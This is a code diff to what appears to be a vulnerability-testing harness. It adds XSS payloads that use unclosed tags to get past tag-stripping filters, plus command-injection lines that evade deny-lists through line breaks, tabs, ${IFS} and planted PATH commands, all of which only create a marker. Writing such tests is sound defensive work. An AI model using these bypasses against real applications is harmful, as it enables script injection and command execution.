@@ -12,6 +12,7 @@ from __future__ import annotations
 
 import os
 import re
+import shlex
 import shutil
 import subprocess
 import sys
@@ -175,6 +176,57 @@ def marker() -> Path:
         folder = Path("/tmp")
     folder.mkdir(parents=True, exist_ok=True)
     return folder / token("marker")
+
+
+def unclosed_tags() -> list[str]:
+    """Tags with no closing '>' that run ``{m}``() (a shape for ``str.format``): the page's own
+    next '>' completes them, past code that removes complete tags only (a regular expression
+    such as <[^>]*> or <.*?>, or a loop doing the same). Where the handler trims a trailing
+    space, the unquoted value runs on to that '>' (``m()</em``): still the handler attribute."""
+    return [
+        "<img src=x onerror={m}()//",
+        "<img src=x onerror={m}() x=",
+        "<svg onload={m}() ",
+        "<svg onload={m}()//",
+        '<img src=x onerror="{m}()"',
+        "<a href=javascript:{m}() ",
+        "<details open ontoggle={m}() ",
+        "<svg/onload={m}()",
+    ]
+
+
+WORDS = ("hello", "refresh")
+WORD_DIR = CHECK_DIR / "words"
+
+
+def word_env() -> dict[str, str]:
+    """The application's PATH with ``WORD_DIR`` first, where ``plant_words`` puts its commands."""
+    WORD_DIR.mkdir(parents=True, exist_ok=True)
+    return {"PATH": f"{WORD_DIR}{os.pathsep}{os.environ.get('PATH', '')}"}
+
+
+def plant_words(marker: Path) -> None:
+    """Commands named like ordinary words (``WORDS``, in lower and upper case, for handlers that
+    upper-case a value) that create ``marker`` whatever their arguments: an injected line
+    holding only a word runs one, past checks that refuse spaces, redirection, ``$``, slashes
+    and dots. Planted again before each attempt, for that attempt's marker."""
+    WORD_DIR.mkdir(parents=True, exist_ok=True)
+    for word in WORDS:
+        for name in (word, word.upper()):
+            path = WORD_DIR / name
+            path.write_text(f"#!/bin/sh\n: >>{shlex.quote(str(marker))}\n")
+            path.chmod(0o755)
+
+
+def spaceless_lines(lead: str, tail: str = "") -> list[str]:
+    """Shapes for ``str.format`` (``{path}`` = the marker file) holding ``lead``, a line break
+    (LF or CRLF) and a command with no space in it that creates the marker: a redirection
+    alone, touch after a tab or ${IFS}, or a bare word of ``plant_words``; then ``tail`` (a
+    line break that ends the injected line before the rest of the command line, a quote
+    that balances the one the code wraps the value in). For deny-lists of metacharacters
+    that forget line breaks and refuse spaces."""
+    lines = [">{path}", "touch\t{path}", "touch${{IFS}}{path}", *WORDS]
+    return [f"{lead}{eol}{line}{tail}" for eol in ("\n", "\r\n") for line in lines]
 
 
 if __name__ == "__main__":
